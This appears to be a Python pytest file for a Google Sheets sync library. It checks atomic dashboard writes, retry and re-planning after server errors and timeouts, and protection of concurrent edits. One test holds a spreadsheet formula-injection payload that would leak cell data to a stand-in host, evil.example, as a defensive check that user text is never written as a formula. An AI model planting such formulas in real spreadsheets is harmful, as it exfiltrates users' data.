"""Writing the dashboard: one atomic batchUpdate, re-planned after an ambiguous failure."""

from __future__ import annotations

import json

import pytest

from sheetsync.errors import SourceError, WriteError
from sheetsync.sources.google.sheets_source import GoogleSheetsSource
from tests.fakesheets import fixture
from tests.fakesheets.helpers import DASHBOARD_ID, SPREADSHEET_ID, FakeTime, dashboard_body

fake_sheets = fixture.fake_sheets
service_account_info = fixture.service_account_info
sheets_credentials = fixture.sheets_credentials

TABS = {"Sales": [["Date", "Amount"], [45658, 120]], "Spend": [["Month", "Cost"], ["2025-01", 50]]}
CELLS = [["KPI", "Value"], ["Sales", 120], ["Spend", -50], ["Note"]]


def make_source(credentials, clock: FakeTime | None = None) -> GoogleSheetsSource:
    clock = clock or FakeTime()
    return GoogleSheetsSource(SPREADSHEET_ID, credentials, sleep=clock.sleep, clock=clock.clock)


def plan(metadata):
    return dashboard_body(metadata, CELLS)


def dashboard_objects(fake) -> tuple[int, int, int, int, int]:
    sheet = fake.book(SPREADSHEET_ID).sheet_by_title("Dashboard")
    return (
        sheet.sheet_id,
        len(sheet.charts),
        len(sheet.conditional_formats),
        len(sheet.protected_ranges),
        len(sheet.banded_ranges),
    )


def test_a_refresh_costs_three_calls_and_writes_the_whole_dashboard(
    fake_sheets, sheets_credentials
):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    source = make_source(sheets_credentials)
    source.read()
    source.write_body(plan)

    assert sum(n for kind, n in fake_sheets.calls.items() if kind != "token") == 3
    assert fake_sheets.values(SPREADSHEET_ID, "Dashboard") == [
        ["KPI", "Value"],
        ["Sales", 120],
        ["Spend", -50],
        ["Note"],
    ]
    assert dashboard_objects(fake_sheets) == (DASHBOARD_ID, 1, 1, 1, 1)


def test_a_second_write_keeps_the_sheet_id_and_duplicates_nothing(fake_sheets, sheets_credentials):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    make_source(sheets_credentials).write_body(plan)
    second = make_source(sheets_credentials)
    second.read()
    second.write_body(lambda meta: dashboard_body(meta, [["KPI", "Value"], ["Sales", 130]]))

    assert dashboard_objects(fake_sheets) == (DASHBOARD_ID, 1, 1, 1, 1)
    sheet = fake_sheets.book(SPREADSHEET_ID).sheet_by_title("Dashboard")
    assert len(sheet.merges) == 1
    # The old rows 3-4 are cleared, not left behind the shorter new table.
    assert fake_sheets.values(SPREADSHEET_ID, "Dashboard") == [["KPI", "Value"], ["Sales", 130]]


def test_a_500_on_the_write_leaves_the_old_dashboard_whole(fake_sheets, sheets_credentials):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    make_source(sheets_credentials).write_body(plan)
    before = fake_sheets.book(SPREADSHEET_ID).copy()
    fake_sheets.fail("batchUpdate", status=500, times=10_000)
    source = make_source(sheets_credentials)
    source.read()

    with pytest.raises(SourceError, match="HTTP 500"):
        source.write_body(lambda meta: dashboard_body(meta, [["KPI"], ["New"]]))
    assert fake_sheets.book(SPREADSHEET_ID) == before


def test_a_500_after_applying_retries_into_the_same_whole_dashboard(
    fake_sheets, sheets_credentials
):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    source = make_source(sheets_credentials)
    source.read()
    fake_sheets.fail("batchUpdate", status=503, applied=True)
    source.write_body(plan)

    # The first body was applied and its answer lost; the retry re-read and replaced it.
    assert fake_sheets.calls["get"] == 2
    assert fake_sheets.values(SPREADSHEET_ID, "Dashboard")[1] == ["Sales", 120]
    assert dashboard_objects(fake_sheets) == (DASHBOARD_ID, 1, 1, 1, 1)


def test_a_timed_out_write_is_replanned_from_fresh_metadata(fake_sheets, sheets_credentials):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    source = make_source(sheets_credentials)
    source.read()
    fake_sheets.fail("batchUpdate", timeout=True, applied=True)
    source.write_body(plan)

    first, second = fake_sheets.bodies("batchUpdate")
    assert "addSheet" in first["requests"][0]
    assert not any("addSheet" in r for r in second["requests"])  # it exists now: reuse it
    assert [c.kind for c in fake_sheets.log if c.kind != "token"] == [
        "get",
        "batchGet",
        "batchUpdate",
        "get",
        "batchUpdate",
    ]
    titles = [s.title for s in fake_sheets.book(SPREADSHEET_ID).sheets]
    assert titles == ["Sales", "Spend", "Dashboard"]
    assert dashboard_objects(fake_sheets) == (DASHBOARD_ID, 1, 1, 1, 1)


def test_each_attempt_sends_a_freshly_built_body(fake_sheets, sheets_credentials):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    source = make_source(sheets_credentials)
    source.read()
    fake_sheets.fail("batchUpdate", status=429, times=2, retry_after=1)
    planned: list[dict] = []

    def remember(metadata):
        planned.append(dashboard_body(metadata, CELLS))
        return planned[-1]

    source.write_body(remember)
    assert len(planned) == 3
    assert len({id(body) for body in planned}) == 3
    assert fake_sheets.calls["get"] == 1  # a 429 was not applied: no need to re-read


def test_a_teammates_edit_between_read_and_write_survives(fake_sheets, sheets_credentials):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    source = make_source(sheets_credentials)
    source.read()
    spend = fake_sheets.book(SPREADSHEET_ID).sheet_by_title("Spend")
    spend.cells[(2, 0)] = {"userEnteredValue": {"stringValue": "2025-02"}}
    spend.cells[(2, 1)] = {"userEnteredValue": {"numberValue": 75}}
    source.write_body(plan)

    assert fake_sheets.values(SPREADSHEET_ID, "Spend") == [
        ["Month", "Cost"],
        ["2025-01", 50],
        ["2025-02", 75],
    ]
    assert fake_sheets.values(SPREADSHEET_ID, "Sales") == TABS["Sales"]


def test_text_from_user_data_is_never_sent_as_a_formula(fake_sheets, sheets_credentials):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    evil = '=IMPORTXML("https://evil.example/?"&A1, "//a")'
    source = make_source(sheets_credentials)
    source.write_body(lambda meta: dashboard_body(meta, [["Channel", "Revenue"], [evil, 10]]))
    added = source.add_tabs({"Notes": [["Who"], ["+33 6 12", "=1+1"]]})

    sent = json.dumps(fake_sheets.bodies("batchUpdate"))
    assert "formulaValue" not in sent
    assert all("USER_ENTERED" not in json.dumps(c.params) for c in fake_sheets.log)
    assert added == ["Notes"]
    assert fake_sheets.values(SPREADSHEET_ID, "Dashboard")[1] == [evil, 10]
    assert fake_sheets.values(SPREADSHEET_ID, "Notes")[1] == ["+33 6 12", "=1+1"]


def test_a_body_google_would_not_parse_is_a_clear_write_error(fake_sheets, sheets_credentials):
    fake_sheets.create(SPREADSHEET_ID, "Shop", TABS)
    before = fake_sheets.book(SPREADSHEET_ID).copy()
    source = make_source(sheets_credentials)
    source.read()

    def misspelt(metadata):
        body = dashboard_body(metadata, CELLS)
        body["requests"][1]["updateCells"]["rows"][0]["values"][0]["userEnteredFormt"] = {}
        return body

    with pytest.raises(WriteError) as caught:
        source.write_body(misspelt)
    assert "HTTP 400" in caught.value.message
    assert "userEnteredFormt: no such field in CellData" in caught.value.message
    assert caught.value.hint.startswith("This is a bug in sheetsync")
    assert fake_sheets.calls["batchUpdate"] == 1
    assert fake_sheets.book(SPREADSHEET_ID) == before
